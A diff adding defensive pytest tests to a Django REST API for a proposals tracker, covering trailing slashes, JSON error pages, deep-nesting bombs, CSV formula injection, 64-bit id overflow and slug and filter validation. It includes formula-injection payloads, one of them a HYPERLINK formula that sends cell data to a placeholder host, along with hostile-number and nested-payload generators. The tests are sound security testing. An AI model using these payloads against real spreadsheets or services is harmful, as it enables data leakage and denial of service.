@@ -493,3 +493,605 @@ def test_a_compact_date_in_a_body_is_a_400(editor_api, proposal):
     )
     assert response.status_code == 400
     assert response.json()["errors"][0]["field"] == "occurred_on"
+
+
+# --------------------------------------------------------------------------
+# Issue items: trailing slashes, HTML error pages, deep nesting, CSV
+# formulas, 64-bit overflow, slugs and JSON types, empty filters.
+# Each example is a test; each kind also has a sweep.
+# --------------------------------------------------------------------------
+
+DEBUG_ON_AND_OFF = pytest.mark.parametrize("debug", [False, True], ids=["debug-off", "debug-on"])
+
+
+# -- A URL without its trailing slash: the write happens, never a redirect --
+
+
+@DEBUG_ON_AND_OFF
+def test_post_without_the_trailing_slash_creates(editor_api, settings, db, debug):
+    settings.DEBUG = debug
+    response = editor_api.post(f"{API}/topics", {"slug": "no-slash", "name": "No slash"}, format="json")
+    assert response.status_code == 201, response.content
+    assert response["Content-Type"] == "application/json"
+    assert response.json()["slug"] == "no-slash"
+    from proposals.models import Topic
+
+    assert Topic.objects.filter(slug="no-slash").exists()
+
+
+@DEBUG_ON_AND_OFF
+def test_put_patch_delete_without_the_trailing_slash_work(editor_api, proposal, settings, debug):
+    settings.DEBUG = debug
+    no_slash = URL.rstrip("/")
+    response = editor_api.patch(no_slash, {"title": "Patched"}, format="json", HTTP_IF_MATCH=_tag(editor_api, URL))
+    assert response.status_code == 200, response.content
+    body = editor_api.get(URL).json()
+    writable = {"slug": body["slug"], "title": "Replaced", "summary": body["summary"]}
+    response = editor_api.put(no_slash, writable, format="json", HTTP_IF_MATCH=_tag(editor_api, URL))
+    assert response.status_code == 200, response.content
+    assert Proposal.objects.get(pk=proposal.pk).title == "Replaced"
+    response = editor_api.post(EVENTS.rstrip("/"), {"status": "adopted", "occurred_on": "2020-01-01"}, format="json")
+    assert response.status_code == 201, response.content
+    response = editor_api.delete(no_slash, HTTP_IF_MATCH=_tag(editor_api, URL))
+    assert response.status_code == 204, response.content
+    assert not Proposal.objects.filter(pk=proposal.pk).exists()
+
+
+def _api_paths(proposal, actor, venue, source, topic) -> list[str]:
+    """One URL of every API v1 route (list, detail, history, parts), slash form."""
+    paths = [f"{API}/"]
+    for plural, key in (
+        ("proposals", proposal.slug),
+        ("actors", actor.pk),
+        ("venues", venue.pk),
+        ("sources", source.pk),
+        ("topics", topic.slug),
+    ):
+        paths += [f"{API}/{plural}/", f"{API}/{plural}/{key}/", f"{API}/{plural}/{key}/history/"]
+    return [*paths, EVENTS, f"{URL}evidence/", "/api/schema/"]
+
+
+@DEBUG_ON_AND_OFF
+def test_every_api_route_answers_without_its_trailing_slash(
+    api, proposal, actor, venue, source, topic, settings, debug
+):
+    settings.DEBUG = debug
+    for path in _api_paths(proposal, actor, venue, source, topic):
+        with_slash = api.get(path, HTTP_ACCEPT="application/json")
+        without = api.get(path.rstrip("/"), HTTP_ACCEPT="application/json")
+        assert with_slash.status_code == 200, path
+        assert without.status_code == 200, (path, without.status_code)  # served, not redirected
+        if path.startswith(API):
+            assert without.json() == with_slash.json(), path
+
+
+@DEBUG_ON_AND_OFF
+def test_every_write_route_takes_writes_without_the_slash(
+    editor_api, proposal, actor, venue, source, topic, settings, debug
+):
+    # Refused writes (no If-Match, empty bodies) prove the route was reached:
+    # the write's own answer, as JSON, not a redirect or an HTML 500.
+    settings.DEBUG = debug
+    for path in _api_paths(proposal, actor, venue, source, topic):
+        if not path.startswith(API) or path.endswith("history/") or path == f"{API}/":
+            continue
+        path = path.rstrip("/")
+        detail = path.count("/") == 4 and not path.endswith(("events", "evidence"))
+        for method in ("put", "patch", "delete") if detail else ("post",):
+            response = getattr(editor_api, method)(path, {}, format="json")
+            assert response.status_code in (400, 428), (method, path, response.status_code)
+            assert_problem(response, response.status_code)
+
+
+@DEBUG_ON_AND_OFF
+def test_an_unknown_url_without_the_slash_is_a_problem_404(api, editor_api, db, settings, debug):
+    settings.DEBUG = debug
+    assert_problem(api.get(f"{API}/nope"), 404)
+    assert_problem(editor_api.post(f"{API}/nope", {"a": 1}, format="json"), 404)
+
+
+# -- No HTML error pages under /api/, debug on or off -----------------------
+
+
+@DEBUG_ON_AND_OFF
+@pytest.mark.parametrize(
+    "path", [f"{API}/nope/", "/api/nope/", "/api/v2/proposals/", f"{URL}nope/", f"{API}/actors/1/2/3/"]
+)
+def test_unknown_api_urls_are_problem_404s(api, proposal, settings, debug, path):
+    settings.DEBUG = debug
+    body = assert_problem(api.get(path), 404)
+    assert len(body["detail"]) < 200
+
+
+@DEBUG_ON_AND_OFF
+def test_unknown_api_urls_are_problem_404s_for_every_method(editor_api, db, settings, debug):
+    settings.DEBUG = debug
+    for method in ("get", "head", "post", "put", "patch", "delete", "options"):
+        response = getattr(editor_api, method)(f"{API}/nope/")
+        assert response.status_code == 404, method
+        assert response["Content-Type"] == "application/problem+json", method
+
+
+@DEBUG_ON_AND_OFF
+def test_methods_a_route_does_not_allow_are_problem_405s(editor_api, proposal, settings, debug):
+    settings.DEBUG = debug
+    for method, path in (("delete", PROPOSALS), ("put", EVENTS), ("delete", f"{URL}history/"), ("post", URL)):
+        response = getattr(editor_api, method)(path, {}, format="json")
+        assert_problem(response, 405)
+        assert response["Allow"]
+
+
+@DEBUG_ON_AND_OFF
+def test_a_crash_under_api_is_a_problem_500(api, proposal, settings, monkeypatch, debug):
+    settings.DEBUG = debug
+    from proposals.api import views
+
+    def crash(self, *args, **kwargs):
+        raise RuntimeError("boom")
+
+    monkeypatch.setattr(views.ProposalViewSet, "list", crash)
+    api.raise_request_exception = False
+    body = assert_problem(api.get(PROPOSALS), 500)
+    assert "boom" not in body["detail"]
+
+
+@DEBUG_ON_AND_OFF
+def test_a_crash_in_middleware_under_api_is_a_problem_500(api, db, settings, monkeypatch, debug):
+    # Outside DRF's handler: Django itself renders the 500 (technical page with DEBUG on).
+    settings.DEBUG = debug
+    from tracker import middleware
+
+    def crash(self, request):
+        raise RuntimeError("boom")
+
+    monkeypatch.setattr(middleware.BodySizeLimitMiddleware, "__call__", crash)
+    api.raise_request_exception = False
+    assert_problem(api.get(PROPOSALS), 500)
+
+
+def test_pages_outside_the_api_keep_djangos_html(client, db, settings):
+    settings.DEBUG = True
+    response = client.get("/nope/")
+    assert response.status_code == 404
+    assert response["Content-Type"].startswith("text/html")
+
+
+# -- Deep nesting -----------------------------------------------------------
+
+
+def _nested(depth: int, leaf="x", kind="list") -> str:
+    if kind == "list":
+        return "[" * depth + json.dumps(leaf) + "]" * depth
+    return '{"a": ' * depth + json.dumps(leaf) + "}" * depth
+
+
+@pytest.mark.parametrize("kind", ["list", "object"])
+@pytest.mark.parametrize("depth", [33, 1_000, 100_000])
+def test_deeply_nested_json_is_400(editor_api, proposal, unchanged, depth, kind):
+    unchanged()
+    inner = _nested(depth - 1, kind=kind)
+    body = '{"slug": "deep", "name": "Deep", "description": ' + inner + "}"
+    response = editor_api.post(f"{API}/topics/", body, content_type="application/json")
+    assert "deeper than" in assert_problem(response, 400)["detail"]
+    event = '{"status": "adopted", "occurred_on": "2020-01-01", "note": ' + inner + "}"
+    assert_problem(editor_api.post(EVENTS, event, content_type="application/json"), 400)
+    body = '{"proponents": [' + inner + "]}"
+    response = editor_api.patch(URL, body, content_type="application/json", HTTP_IF_MATCH=_tag(editor_api, URL))
+    assert_problem(response, 400)
+
+
+def test_json_nested_as_deep_as_allowed_is_parsed(editor_api, proposal, unchanged):
+    # 32 levels parse; the value is then just the wrong type for the field.
+    unchanged()
+    body = '{"slug": "deep", "name": "Deep", "description": ' + _nested(31) + "}"
+    response = editor_api.post(f"{API}/topics/", body, content_type="application/json")
+    assert_problem(response, 400, "description")
+
+
+@pytest.mark.parametrize("fmt", ["multipart", "form"])
+def test_deeply_nested_form_keys_are_400(editor_api, proposal, unchanged, fmt):
+    unchanged()
+    data = {"slug": "deep", "name": "Deep", "proponents" + "[0]" * 1_000 + "[id]": "1", "a" + "[b]" * 1000: "x"}
+    if fmt == "form":
+        response = editor_api.post(f"{API}/topics/", urlencode(data), content_type="application/x-www-form-urlencoded")
+    else:
+        response = editor_api.post(f"{API}/topics/", data, format="multipart")
+    assert_problem(response, 400)
+    tag = _tag(editor_api, URL)
+    response = editor_api.patch(
+        URL, urlencode(data), content_type="application/x-www-form-urlencoded", HTTP_IF_MATCH=tag
+    )
+    assert_problem(response, 400)
+
+
+def test_json_depth_check_counts_containers():
+    from proposals.api.parsers import json_depth_exceeds
+
+    assert not json_depth_exceeds({"a": [1, {"b": []}]}, 4)
+    assert json_depth_exceeds({"a": [1, {"b": []}]}, 3)
+    assert not json_depth_exceeds("scalar", 0)
+    assert json_depth_exceeds(json.loads(_nested(900)), 899)
+
+
+# -- CSV formula injection --------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "'=already quoted",
+]
+
+
+def _csv_rows(api, query: str = "") -> list[dict]:
+    import csv
+    import io
+
+    response = api.get(f"{PROPOSALS}?format=csv{query}")
+    assert response.status_code == 200
+    raw = b"".join(response.streaming_content) if response.streaming else response.content
+    assert raw.startswith(b"\xef\xbb\xbf")
+    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+
+
+def test_a_formula_title_is_exported_as_text(api, proposal):
+    title = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
+    Proposal.objects.filter(pk=proposal.pk).update(title=title)
+    (row,) = _csv_rows(api)
+    assert row["title"] == "'" + title
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_csv_neutralises_formulas_in_every_text_column(api, db, value):
+    from proposals.models import Actor, Topic, Venue
+    from tests.factories import ActorFactory, TopicFactory, VenueFactory
+
+    venue = VenueFactory(name=value)
+    lead = ActorFactory(name=value)
+    topic = TopicFactory(slug="formula-topic")
+    ProposalFactory(
+        slug="formula",
+        title=value,
+        venue=venue,
+        proponents=[{"actor": lead, "role": "proposed", "is_primary": True}],
+        topics=[topic],
+    )
+    assert Actor.objects.filter(name=value).exists() and Venue.objects.filter(name=value).exists()
+    assert Topic.objects.filter(pk=topic.pk).exists()
+    (row,) = _csv_rows(api)
+    for column in ("title", "venue", "primary_proponent", "proponents"):
+        assert row[column].startswith("'" + value), (column, row[column])
+        assert row[column][1:].startswith(value)
+    assert row["slug"] == "formula"
+
+
+def test_harmless_cells_are_exported_unchanged(api, proposal):
+    (row,) = _csv_rows(api)
+    assert row["title"] == "Anti-extremism treaty"
+    assert row["venue"] == "SCO summit"
+    assert row["proposed_on"] == "2015-12-15"
+    assert row["venue_id"] == str(proposal.venue_id)
+
+
+def test_csv_keeps_non_ascii_names_readable(api, proposal):
+    Proposal.objects.filter(pk=proposal.pk).update(title="“Curly” 上海合作组织")
+    (row,) = _csv_rows(api)
+    assert row["title"] == "“Curly” 上海合作组织"
+
+
+@pytest.mark.parametrize("value", [*FORMULAS, "plain", "", "'", "''", "a=b", 42, None])
+def test_csv_cell_escaping_is_reversible(value):
+    from proposals.api.renderers import csv_cell
+
+    cell = csv_cell(value)
+    if isinstance(value, str) and value:
+        assert cell[:1] not in "=+-@\t\r\n＝＋－＠"
+        restored = cell[1:] if cell.startswith("'") else cell
+        assert restored == value
+    else:
+        assert cell == value
+
+
+def test_the_generic_csv_renderer_escapes_too():
+    from proposals.api.renderers import CSVRenderer
+
+    out = CSVRenderer().render([{"slug": "s", "title": "=1+1"}]).decode("utf-8-sig")
+    assert out.splitlines()[1].startswith("s,'=1+1")
+
+
+# -- 64-bit overflow: ids, cursors, pages on both databases ----------------
+
+TOO_BIG = str(2**63)  # 9223372036854775808: one past the largest 64-bit id
+HOSTILE_NUMBERS = [TOO_BIG, f"-{TOO_BIG}", "9" * 1_000, "-1", "0", "1e3", "0x10", "abc", "1\x00", "", " 1"]
+
+
+def _cursor(raw: str) -> str:
+    import base64
+
+    return base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")
+
+
+def test_a_forged_cursor_with_an_id_beyond_64_bits_is_400(api, proposal):
+    assert_problem(api.get(PROPOSALS, {"cursor": _cursor(f"2020-01-01T00:00:00+00:00|{TOO_BIG}")}), 400, "cursor")
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        f"2020-01-01T00:00:00+00:00|-{TOO_BIG}",
+        "2020-01-01T00:00:00+00:00|" + "9" * 1_000,
+        "2020-01-01T00:00:00+00:00|0",
+        "2020-01-01T00:00:00+00:00|-1",
+        "9999-12-31T23:59:59-05:00|1",
+        "0001-01-01T00:00:00+05:00|1",
+        "2020-01-01T00:00:00+00:00|1|2",
+        "2020-01-01T00:00:00+00:00|\x00",
+        "2020-01-01|1",
+        "|",
+    ],
+)
+def test_forged_cursors_are_400(api, proposal, raw):
+    assert_problem(api.get(PROPOSALS, {"cursor": _cursor(raw)}), 400, "cursor")
+
+
+def test_a_real_cursor_still_works(api, proposal):
+    first = api.get(PROPOSALS, {"cursor": "", "page_size": 1}).json()
+    assert [p["slug"] for p in first["results"]] == [proposal.slug]
+
+
+ID_PARAMETERS = [
+    (PROPOSALS, "venue"),
+    (PROPOSALS, "proponent"),
+    (PROPOSALS, "party"),
+    (PROPOSALS, "source"),
+    (PROPOSALS, "page"),
+    (PROPOSALS, "page_size"),
+    (f"{API}/venues/", "organisation"),
+    (f"{API}/venues/", "page"),
+    (f"{API}/actors/", "page"),
+    (f"{API}/actors/", "page_size"),
+    (f"{API}/sources/", "page"),
+    (f"{API}/topics/", "page_size"),
+]
+
+
+@pytest.mark.parametrize(("url", "param"), ID_PARAMETERS)
+def test_hostile_numbers_in_id_and_page_parameters_are_never_a_500(api, proposal, url, param):
+    for value in HOSTILE_NUMBERS:
+        response = api.get(url, {param: value})
+        if response.status_code != 200:
+            body = assert_problem(response, response.status_code)
+            assert 400 <= body["status"] < 500, (param, value)
+
+
+@pytest.mark.parametrize("resource", ["actors", "venues", "sources"])
+def test_hostile_numbers_as_path_ids_are_404(api, editor_api, proposal, unchanged, resource):
+    unchanged()
+    for value in [TOO_BIG, f"-{TOO_BIG}", "9" * 1_000, "99999999999999999999"]:
+        for suffix in ("", "history/"):
+            assert_problem(api.get(f"{API}/{resource}/{value}/{suffix}"), 404)
+            assert_problem(editor_api.get(f"{API}/{resource}/{value}/{suffix}"), 404)
+        assert_problem(editor_api.patch(f"{API}/{resource}/{value}/", {}, format="json", HTTP_IF_MATCH="*"), 404)
+        assert_problem(editor_api.delete(f"{API}/{resource}/{value}/", HTTP_IF_MATCH="*"), 404)
+
+
+@pytest.mark.parametrize("value", [2**63, -(2**63) - 1, 10**30])
+def test_ids_beyond_64_bits_in_bodies_are_400(editor_api, proposal, actor, source, unchanged, value):
+    unchanged()
+    tag = _tag(editor_api, URL)
+    for payload, field in (
+        ({"venue": {"id": value}}, "venue.id"),
+        ({"parties": [{"id": value}]}, "parties.0.id"),
+        ({"proponents": [{"id": value, "role": "proposed"}]}, "proponents.0.id"),
+    ):
+        assert_problem(editor_api.patch(URL, payload, format="json", HTTP_IF_MATCH=tag), 400, field)
+    event = {"status": "adopted", "occurred_on": "2020-01-01", "evidence": value}
+    assert_problem(editor_api.post(EVENTS, event, format="json"), 400, "evidence")
+    quote = {"source": {"id": source.pk}, "quote": "treaty", "start": value}
+    assert_problem(editor_api.post(f"{URL}evidence/", quote, format="json"), 400)
+    assert_problem(editor_api.post(f"{URL}evidence/", {"source": {"id": value}, "quote": "x"}, format="json"), 400)
+    actor_body = {"slug": "new-actor", "name": "New", "kind": "person", "affiliation": {"id": value}}
+    assert_problem(editor_api.post(f"{API}/actors/", actor_body, format="json"), 400, "affiliation.id")
+
+
+# -- Slugs: lowercase letters, digits, hyphens; JSON strings only -----------
+
+SLUGGED = {
+    "topics": {"name": "A topic"},
+    "actors": {"name": "An actor", "kind": "person"},
+    "venues": {"name": "A venue", "kind": "summit"},
+    "sources": {"title": "A source", "text": "Some text."},
+    "proposals": {"title": "A proposal"},
+}
+
+
+def test_an_uppercase_slug_is_400(editor_api, db, unchanged):
+    unchanged()
+    response = editor_api.post(f"{API}/topics/", {"slug": "NC-TEST", "name": "NC test"}, format="json")
+    assert_problem(response, 400, "slug")
+
+
+@pytest.mark.parametrize("resource", sorted(SLUGGED))
+@pytest.mark.parametrize("slug", ["NC-TEST", "Mixed-case", "under_score", "-leading", "trailing-", "double--hyphen"])
+def test_slugs_must_be_lowercase_words_and_hyphens(editor_api, db, unchanged, resource, slug):
+    unchanged()
+    response = editor_api.post(f"{API}/{resource}/", {"slug": slug, **SLUGGED[resource]}, format="json")
+    assert_problem(response, 400, "slug")
+
+
+@pytest.mark.parametrize("resource", sorted(SLUGGED))
+def test_changing_a_slug_to_uppercase_is_400(editor_api, proposal, actor, venue, source, topic, unchanged, resource):
+    key = {"topics": topic.slug, "actors": actor.pk, "venues": venue.pk, "sources": source.pk}.get(
+        resource, proposal.slug
+    )
+    url = f"{API}/{resource}/{key}/"
+    tag = _tag(editor_api, url)
+    unchanged()
+    assert_problem(editor_api.patch(url, {"slug": "UPPER"}, format="json", HTTP_IF_MATCH=tag), 400, "slug")
+
+
+def test_the_model_refuses_uppercase_slugs_for_admin_and_loader():
+    from django.core.exceptions import ValidationError
+
+    from proposals.models import Actor, Source, Topic, Venue
+
+    for model in (Topic, Actor, Venue, Source, Proposal):
+        field = model._meta.get_field("slug")
+        with pytest.raises(ValidationError):
+            field.run_validators("NC-TEST")
+        field.run_validators("nc-test-2")
+
+
+@pytest.mark.parametrize("slug", [123, 1.5, True, ["a"], {"a": 1}])
+def test_a_slug_that_is_not_a_string_is_400(editor_api, db, unchanged, slug):
+    unchanged()
+    response = editor_api.post(f"{API}/topics/", {"slug": slug, "name": "Numbered"}, format="json")
+    assert_problem(response, 400, "slug")
+
+
+#: Every writable string field of every resource, with a valid body around it.
+STRING_FIELDS = {
+    "topics": (["slug", "name", "description"], {"slug": "t-new", "name": "T"}),
+    "actors": (["slug", "name", "description", "country_code"], {"slug": "a-new", "name": "A", "kind": "person"}),
+    "venues": (["slug", "name", "place", "note"], {"slug": "v-new", "name": "V", "kind": "summit"}),
+    "sources": (
+        ["slug", "title", "authors", "outlet", "published_note", "url", "language", "text"],
+        {"slug": "s-new", "title": "S", "text": "Body."},
+    ),
+    "proposals": (["slug", "title", "summary", "proposed_note"], {"slug": "p-new", "title": "P"}),
+}
+
+
+@pytest.mark.parametrize("resource", sorted(STRING_FIELDS))
+@pytest.mark.parametrize("value", [123, 0, 1.5, True, False], ids=["int", "zero", "float", "true", "false"])
+def test_numbers_and_booleans_for_string_fields_are_400(editor_api, db, unchanged, resource, value):
+    unchanged()
+    fields, valid = STRING_FIELDS[resource]
+    for field in fields:
+        response = editor_api.post(f"{API}/{resource}/", {**valid, field: value}, format="json")
+        assert_problem(response, 400, field)
+
+
+@pytest.mark.parametrize("value", [123, True])
+def test_numbers_for_string_fields_of_parts_and_references_are_400(editor_api, proposal, source, unchanged, value):
+    unchanged()
+    assert_problem(
+        editor_api.post(EVENTS, {"status": "adopted", "occurred_on": "2020-01-01", "note": value}, format="json"),
+        400,
+        "note",
+    )
+    for payload, field in (
+        ({"source": {"id": source.pk}, "quote": value}, "quote"),
+        ({"source": {"id": source.pk}, "quote": "treaty", "note": value}, "note"),
+    ):
+        assert_problem(editor_api.post(f"{URL}evidence/", payload, format="json"), 400, field)
+    tag = _tag(editor_api, URL)
+    for payload, field in (
+        ({"topics": [{"slug": value}]}, "topics.0.slug"),
+        ({"related": [{"relation": "related", "slug": value}]}, "related.0.slug"),
+        ({"title": value}, "title"),
+    ):
+        assert_problem(editor_api.patch(URL, payload, format="json", HTTP_IF_MATCH=tag), 400, field)
+
+
+def test_strings_that_look_like_numbers_are_fine(editor_api, db):
+    response = editor_api.post(f"{API}/topics/", {"slug": "123", "name": "123"}, format="json")
+    assert response.status_code == 201, response.content
+
+
+# -- Empty filter values mean "no filter" -----------------------------------
+
+#: Every filter of every list endpoint (django-filter's, plus the shared ones).
+LIST_FILTERS = {
+    PROPOSALS: [
+        "status",
+        "venue",
+        "proponent",
+        "role",
+        "topic",
+        "party",
+        "source",
+        "proposed_after",
+        "proposed_before",
+        "updated_since",
+        "q",
+        "ordering",
+        "page",
+        "page_size",
+    ],
+    f"{API}/actors/": ["kind", "named", "country_code", "slug", "ordering", "page", "page_size"],
+    f"{API}/venues/": ["kind", "organisation", "slug", "ordering", "page", "page_size"],
+    f"{API}/sources/": ["language", "published_precision", "slug", "ordering", "page", "page_size"],
+    f"{API}/topics/": ["ordering", "page", "page_size"],
+}
+
+
+def test_an_empty_status_filter_means_no_filter(api, proposal):
+    response = api.get(f"{PROPOSALS}?status=")
+    assert response.status_code == 200, response.content
+    assert [p["slug"] for p in response.json()["results"]] == [proposal.slug]
+
+
+@pytest.mark.parametrize("url", sorted(LIST_FILTERS))
+def test_every_filter_left_empty_means_no_filter(api, proposal, url):
+    from proposals.api import filters as filter_module
+    from proposals.api.views import ActorViewSet, ProposalViewSet, SourceViewSet, VenueViewSet
+
+    everything = api.get(url).json()["results"]
+    declared = {
+        PROPOSALS: ProposalViewSet,
+        f"{API}/actors/": ActorViewSet,
+        f"{API}/venues/": VenueViewSet,
+        f"{API}/sources/": SourceViewSet,
+    }.get(url)
+    names = set(LIST_FILTERS[url])
+    if declared is not None:  # the catalogue above misses no filter
+        assert set(declared.filterset_class.base_filters) <= names, filter_module
+    for name in sorted(names):
+        response = api.get(f"{url}?{name}=")
+        assert response.status_code == 200, (name, response.content)
+        assert response.json()["results"] == everything, name
+    response = api.get(url + "?" + "&".join(f"{name}=" for name in sorted(names)))
+    assert response.status_code == 200, response.content
+    assert response.json()["results"] == everything
+
+
+def test_an_empty_value_beside_a_real_one_is_ignored(api, proposal, venue):
+    response = api.get(f"{PROPOSALS}?venue=&venue={venue.pk}&status=&status=proposed")
+    assert response.status_code == 200, response.content
+    assert [p["slug"] for p in response.json()["results"]] == [proposal.slug]
+    assert_problem(api.get(f"{PROPOSALS}?status=&status=finished"), 400, "status")
+
+
+@pytest.mark.parametrize(
+    "value", ["9999-12-31T23:59:59-05:00", "0001-01-01T00:00:00+05:00", "9999-12-31T23:59:59.999999-00:01"]
+)
+def test_a_date_time_filter_beyond_the_calendar_in_utc_is_400(api, proposal, value):
+    assert_problem(api.get(PROPOSALS, {"updated_since": value}), 400, "updated_since")
+
+
+def test_a_date_time_filter_at_the_calendars_edge_in_utc_is_fine(api, proposal):
+    assert api.get(PROPOSALS, {"updated_since": "9999-12-31T23:59:59+00:00"}).status_code == 200
+
+
+@pytest.mark.parametrize("fmt", ["multipart", "form"])
+def test_an_empty_form_value_for_a_non_blank_string_is_400_not_ignored(editor_api, source, unchanged, fmt):
+    # DRF treats "language=" in a form as absent when the field has a default
+    # (Source.language, "en"): a 200 that silently changed nothing.
+    url = f"{API}/sources/{source.pk}/"
+    tag = _tag(editor_api, url)
+    unchanged()
+    if fmt == "form":
+        body = urlencode({"language": ""})
+        response = editor_api.patch(url, body, content_type="application/x-www-form-urlencoded", HTTP_IF_MATCH=tag)
+    else:
+        response = editor_api.patch(url, {"language": ""}, format="multipart", HTTP_IF_MATCH=tag)
+    assert_problem(response, 400, "language")
